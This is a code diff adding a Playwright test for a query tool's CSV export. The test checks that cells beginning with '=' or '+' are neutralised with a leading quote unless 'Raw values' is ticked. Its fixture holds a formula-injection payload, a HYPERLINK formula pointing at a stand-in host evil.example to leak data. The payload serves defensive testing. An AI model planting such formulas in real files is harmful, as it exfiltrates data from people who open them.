@@ -137,3 +137,32 @@ test('a dynamic cell opens as a JSON tree', async ({ page }, testInfo) => {
   await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
   await page.screenshot({ path: testInfo.outputPath('results-dark.png') });
 });
+
+test('CSV export neutralises cells a spreadsheet would run as formulas, unless Raw values is ticked', async ({ page }, testInfo) => {
+  await signIn(page);
+  // Cell text a cluster owner controls: a formula that leaks data through a link, and a sum.
+  await runQuery(page, 'print link = \'=HYPERLINK("http://evil.example/?leak","x")\', sum = "+SUM(1,1)", n = -2');
+  await expect(resultStatus(page)).toHaveText(recordsText(1));
+  const exportCsv = async () => {
+    const downloading = page.waitForEvent('download');
+    await page.getByRole(s.results.exportCsv.role, { name: s.results.exportCsv.name }).click();
+    return readFile(await (await downloading).path(), 'utf8');
+  };
+  expect(await exportCsv()).toBe('\uFEFFlink,sum,n\r\n"\'=HYPERLINK(""http://evil.example/?leak"",""x"")","\'+SUM(1,1)",-2\r\n');
+
+  const raw = page.getByRole(s.results.rawValues.role, { name: s.results.rawValues.name });
+  await expect(raw).not.toBeChecked();
+  for (const width of [800, 1400]) {
+    for (const theme of ['light', 'dark'] as const) {
+      await page.setViewportSize({ width, height: 820 });
+      await page.evaluate((t) => {
+        document.documentElement.dataset['theme'] = t;
+        document.documentElement.style.colorScheme = t;
+      }, theme);
+      await expect(raw).toBeVisible();
+      await page.screenshot({ path: testInfo.outputPath(`results-toolbar-${width}-${theme}.png`) });
+    }
+  }
+  await raw.check();
+  expect(await exportCsv()).toBe('\uFEFFlink,sum,n\r\n"=HYPERLINK(""http://evil.example/?leak"",""x"")","+SUM(1,1)",-2\r\n');
+});
